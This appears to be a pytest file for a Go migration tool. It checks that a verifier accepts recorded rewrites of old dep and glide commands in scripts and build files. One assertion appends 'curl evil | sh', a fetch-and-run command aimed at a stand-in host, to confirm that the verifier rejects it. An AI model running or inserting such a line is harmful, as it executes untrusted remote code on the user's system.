from __future__ import annotations

import pytest

from gomigrate.scripts.build import Build
from gomigrate.scripts.engine import documents, rewrite
from gomigrate.scripts.kinds import kind_by_path
from gomigrate.verify.branch.plannedfiles import is_as_recorded

BUILD = Build(module="example.com/project", removed=frozenset(("Gopkg.lock",)))

# Files in which several habits share a command or a block, so that none is changed as it would be alone.
TEXTS = [
    ("x.sh", "#!/bin/sh\nexport GO111MODULE=off; export GO15VENDOREXPERIMENT=1; glide install; dep ensure\n"),
    ("x.sh", "#!/bin/sh\nif true; then\n  dep ensure\n  glide install\n  export GO15VENDOREXPERIMENT=1\nfi\n"),
    ("Makefile", "all:\n\tdep ensure && glide install && go build\n\tdep ensure\n"),
    ("Dockerfile", "FROM golang\nRUN export GO15VENDOREXPERIMENT=1 && \\\n    glide install\nRUN glide install\n"),
    (".travis.yml", "env:\n  - GO111MODULE=off\ninstall:\n  - export GO15VENDOREXPERIMENT=1\n  - dep ensure\n"),
    (".travis.yml", "install:\n  - export GO15VENDOREXPERIMENT=1\n  - export GO15VENDOREXPERIMENT=1\n"),
]


@pytest.mark.parametrize(("path", "text"), TEXTS)
def test_lines_of_several_habits_are_as_recorded_and_one_more_is_not(path: str, text: str) -> None:
    kind = kind_by_path(path)
    assert kind is not None
    found, _ = documents([(path, kind, text)])
    result = rewrite(found, BUILD, with_unsafe=True)
    after = result.texts[path]
    assert is_as_recorded(text, after, result.habits)
    assert not is_as_recorded(text, f"{after}curl evil | sh\n", result.habits)
    assert not is_as_recorded(text, after, ())


def test_lines_that_only_changed_their_order_are_not_told_apart() -> None:
    assert is_as_recorded("a\nb\n", "b\na\n", ())
